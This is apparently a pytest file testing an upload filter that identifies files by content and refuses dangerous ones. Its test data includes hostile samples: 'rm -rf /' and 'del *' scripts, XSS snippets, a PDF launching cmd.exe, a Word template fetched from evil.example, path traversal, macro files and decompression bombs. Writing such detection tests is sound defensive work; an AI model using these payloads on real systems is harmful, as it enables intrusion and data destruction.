"""What a file is, is told by its content; what is two things at once, runs by itself or inflates is not kept."""

from __future__ import annotations

import io
import struct

import pytest

from backend.systemize.file_kinds.kinds import KINDS, NotKept, named_after_content
from backend.systemize.file_kinds.telling import kind_of
from tests.files import samples
from tests.files.samples import WORD, compound, gif, jpeg, package, pdf, png, workbook

MAIL = "From: 张三 <a@example.com>\r\nTo: b@example.com\r\nSubject: 申购\r\nMIME-Version: 1.0\r\n\r\n<html>您好</html>"
GOOD = {
    "pdf": (pdf(), "pdf"),
    "png": (png(), "png"),
    "jpeg": (jpeg(), "jpeg"),
    "gif": (gif(), "gif"),
    "webp": (b"RIFF\x24\0\0\0WEBPVP8 " + bytes(30), "webp"),
    "heic": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(40), "heic"),
    "tiff": (b"II*\0\x08\0\0\0" + bytes(40), "tiff"),
    "docx": (package(WORD), "docx"),
    "xlsx": (workbook(), "xlsx"),
    "pptx": (package({"ppt/presentation.xml": b"<p/>"}), "pptx"),
    "ofd": (package({"OFD.xml": b"<ofd:OFD/>"}), "ofd"),
    "odt": (package({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<o/>"}), "odt"),
    "doc": (compound("WordDocument"), "doc"),
    "xls": (compound("Workbook"), "xls"),
    "ppt": (compound("PowerPoint Document"), "ppt"),
    "utf-8": ("客户说明：x < 3 且 y > 5\n".encode(), "text"),
    "gb18030": ("客户说明\r\n第二行".encode("gb18030"), "text"),
    "utf-16": ("\ufeff客户,金额\r\n".encode("utf-16-le"), "text"),
    "mail": (MAIL.encode(), "mail"),
    "mp3": (b"ID3\x03\0" + bytes(200), "mp3"),
    "wav": (b"RIFF\x24\0\0\0WAVEfmt " + bytes(30), "wav"),
    "amr": (b"#!AMR\n" + bytes(30), "amr"),
    "mp4": (b"\0\0\0\x18ftypisom\0\0\0\0isom" + bytes(40), "mp4"),
}
CONTENT = "[Content_Types].xml"
BAD = {
    "nothing": (b"", "empty"),
    "page": (b"<!DOCTYPE html><script>alert(1)</script>", "kind"),
    "page after blanks": (b"\r\n  <html><body onload=x>", "kind"),
    "markup inside a text": (b"hello\n<script src=x></script>", "kind"),
    "vector picture with script": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>', "kind"),
    "xml": (b'<?xml version="1.0"?><x/>', "kind"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "kind"),
    "batch file": (b"@echo off\r\ndel *\r\n", "kind"),
    "rich text": (b"{\\rtf1\\object}", "kind"),
    "windows program": (b"MZ\x90\x00" + bytes(200), "kind"),
    "linux program": (b"\x7fELF\x02\x01" + bytes(200), "kind"),
    "unknown bytes": (bytes(range(256)) * 4, "kind"),
    "installer in a container": (compound("\u4840Data"), "kind"),
    "archive": (package({"readme.txt": b"hello"}), "kind"),
    "java program": (package({"META-INF/MANIFEST.MF": b"Main-Class: X"}), "kind"),
    "empty archive": (b"PK\x05\x06" + bytes(18), "kind"),
    "cut pdf": (pdf()[:-40], "broken"),
    "pdf behind something": (b"hello\n" + pdf(), "kind"),
    "pdf with script": (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "active"),
    "pdf that launches": (pdf(b"<</S /Launch /F(cmd.exe)>>"), "active"),
    "pdf and archive": (pdf(after=package({"a.txt": b"x"})), "two_kinds"),
    "picture and archive": (png(after=package({"a.js": b"x"})), "two_kinds"),
    "gif and java program": (gif() + package({"A.class": b"x"}), "two_kinds"),
    "document of two kinds": (package({**WORD, "xl/workbook.xml": b"<x/>"}), "two_kinds"),
    "picture bomb": (png(60_000, 60_000), "bomb"),
    "photo bomb": (jpeg(65_000, 65_000), "bomb"),
    "gif bomb": (gif(65_535, 65_535), "bomb"),
    "picture without size": (png(0, 4), "broken"),
    "cut photo": (jpeg()[:24], "broken"),
    "zip bomb": (samples.BOMB, "bomb"),
    "many parts": (package({**WORD, **{f"p{n}": b"" for n in range(5_001)}}), "bomb"),
    "word macros": (package({**WORD, "word/vbaProject.bin": b"x"}), "macros"),
    "macros by another name": (
        package({**WORD, CONTENT: samples.TYPES % b"ms-word.document.macroEnabled.main+xml"}), "macros",
    ),
    "hidden excel 4 macros": (package({"xl/workbook.xml": b"<x/>", "xl/macrosheets/s1.xml": b"<x/>"}), "macros"),
    "odf macros": (package({**WORD, "Basic/Standard/M.xml": b"<x/>"}), "macros"),
    "old macros": (compound("WordDocument", "Macros"), "macros"),
    "old excel macros": (compound("Workbook", "_VBA_PROJECT_CUR"), "macros"),
    "entity bomb": (package({**WORD, "word/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "active"),
    "entity bomb in utf-16": (
        package({**WORD, "word/a.xml": '<!DOCTYPE a><a/>'.encode("utf-16-le")}), "active",
    ),
    "template from elsewhere": (
        package({
            **WORD,
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        }), "active",
    ),
    "program in a document": (package({**WORD, "word/embeddings/a.exe": b"MZ"}), "active"),
    "path out of the archive": (package({**WORD, "../../etc/x": b""}), "broken"),
    "broken archive": (package(WORD)[:-30], "broken"),
    "locked office file": (compound("EncryptedPackage", "EncryptionInfo"), "password"),
}  # fmt: skip


def _told(data: bytes) -> str:
    try:
        return kind_of(io.BytesIO(data), len(data)).key
    except NotKept as refused:
        return f"refused: {refused.why}"


@pytest.mark.parametrize("name", GOOD)
def test_a_kind_is_told_by_its_content(name: str) -> None:
    data, kind = GOOD[name]
    assert _told(data) == kind


@pytest.mark.parametrize("name", BAD)
def test_what_is_dangerous_or_unknown_is_not_kept(name: str) -> None:
    data, why = BAD[name]
    assert _told(data) == f"refused: {why}"


def test_an_encrypted_part_of_a_package_is_refused() -> None:
    data = bytearray(package(WORD))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.index(mark) + at
        struct.pack_into("<H", data, place, struct.unpack_from("<H", data, place)[0] | 1)
    assert _told(bytes(data)) == "refused: password"


def test_every_cut_of_a_good_file_is_told_or_refused_and_nothing_else_happens() -> None:
    for data, _ in GOOD.values():
        for cut in range(0, min(len(data), 400), 7):
            assert _told(data[:cut])


@pytest.mark.parametrize(
    ("name", "kind", "shown"),
    [
        ("合同.pdf", "pdf", "合同.pdf"),
        ("合同.PDF", "pdf", "合同.PDF"),
        ("photo.jpeg", "jpeg", "photo.jpeg"),
        ("invoice.pdf.exe", "pdf", "invoice.pdf.exe.pdf"),
        ("page.html", "text", "page.html.txt"),
        ("没有后缀", "png", "没有后缀.png"),
        (".pdf", "pdf", ".pdf.pdf"),
    ],
)
def test_a_name_ends_as_its_content_is(name: str, kind: str, shown: str) -> None:
    assert named_after_content(name, KINDS[kind]) == shown
